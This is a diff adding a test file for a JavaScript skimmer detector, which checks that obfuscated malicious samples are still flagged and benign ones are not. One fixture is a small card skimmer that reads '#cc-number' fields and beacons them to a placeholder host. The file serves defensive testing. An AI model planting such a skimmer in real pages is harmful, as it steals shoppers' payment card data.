@@ -1,0 +1,99 @@
+import JavaScriptObfuscator, { type ObfuscatorOptions } from 'javascript-obfuscator'
+import { describe, expect, it } from 'vitest'
+import { analyzeScript } from '../../detector/index.ts'
+import { loadSamples } from '../../fixtures/samples/load.ts'
+
+// Every sample dressed by the real javascript-obfuscator at test time: string arrays must be
+// resolved statically well enough that skimmers stay caught and benign code stays uncalled.
+
+type Encoding = 'none' | 'base64' | 'rc4'
+
+function obfuscate(source: string, encoding: Encoding, extra: ObfuscatorOptions): string {
+  return JavaScriptObfuscator.obfuscate(source, {
+    stringArray: true,
+    stringArrayEncoding: [encoding],
+    stringArrayRotate: true,
+    stringArrayShuffle: true,
+    stringArrayThreshold: 1,
+    seed: 1337,
+    ...extra,
+  }).getObfuscatedCode()
+}
+
+const samples = loadSamples()
+const malicious = samples.filter((s) => s.kind === 'malicious')
+const benign = samples.filter((s) => s.kind === 'benign')
+
+const DRESSES: { name: string; options: ObfuscatorOptions }[] = [
+  { name: 'variable wrappers ×1', options: { stringArrayWrappersCount: 1 } },
+  {
+    name: 'function wrappers ×2',
+    options: { stringArrayWrappersCount: 2, stringArrayWrappersType: 'function' },
+  },
+  {
+    name: 'chained function wrappers ×2, extra parameters',
+    options: {
+      stringArrayWrappersCount: 2,
+      stringArrayWrappersType: 'function',
+      stringArrayWrappersChainedCalls: true,
+      stringArrayWrappersParametersMaxCount: 5,
+    },
+  },
+]
+
+describe.each(['none', 'base64', 'rc4'] as const)('javascript-obfuscator, %s encoding', (enc) => {
+  describe.each(DRESSES)('$name', ({ options }) => {
+    it('keeps at least 90% of the malicious samples malicious and none clean', () => {
+      const verdicts = malicious.map((s) => ({
+        name: s.name,
+        verdict: analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {}).verdict,
+      }))
+      expect(verdicts.filter((v) => v.verdict === 'clean')).toEqual([])
+      const strict = verdicts.filter((v) => v.verdict === 'malicious').length
+      expect(strict / malicious.length).toBeGreaterThanOrEqual(0.9)
+    })
+
+    it('never calls a benign sample malicious', () => {
+      for (const s of benign) {
+        const v = analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {})
+        expect({ name: s.name, verdict: v.verdict }).not.toEqual({
+          name: s.name,
+          verdict: 'malicious',
+        })
+      }
+    })
+  })
+})
+
+describe('javascript-obfuscator string arrays, resolved', () => {
+  const skimmer = `document.querySelectorAll('#cc-number').forEach(function (e) {
+    navigator.sendBeacon('https://drop.example.test/c', e.value)
+  })`
+
+  it.each(['none', 'base64', 'rc4'] as const)('puts names, selectors and URLs back (%s)', (enc) => {
+    const out = obfuscate(skimmer, enc, {
+      stringArrayWrappersCount: 2,
+      stringArrayWrappersType: 'function',
+    })
+    if (enc !== 'none') expect(out).not.toContain('cc-number')
+    const v = analyzeScript(out)
+    const rules = v.findings.map((f) => f.rule)
+    expect(rules).toContain('card-field-read-and-send')
+    expect(v.findings.some((f) => f.snippet?.includes('drop.example.test'))).toBe(true)
+  })
+
+  it('points findings at the obfuscated file, not at the rewritten text', () => {
+    const out = obfuscate(`\n\n${skimmer}`, 'rc4', { stringArrayWrappersCount: 1 })
+    const lines = out.split('\n')
+    for (const f of analyzeScript(out).findings) {
+      expect(f.line).toBeGreaterThanOrEqual(1)
+      expect(f.line).toBeLessThanOrEqual(lines.length)
+      expect(f.column).toBeLessThanOrEqual((lines[f.line - 1] ?? '').length)
+    }
+  })
+
+  it('leaves code without a string array untouched', () => {
+    const plain = `var a = ['x', 'y']; function f(i) { i = i - 1; return a[i] } f(1)`
+    expect(analyzeScript(plain).verdict).toBe('clean')
+  })
+})
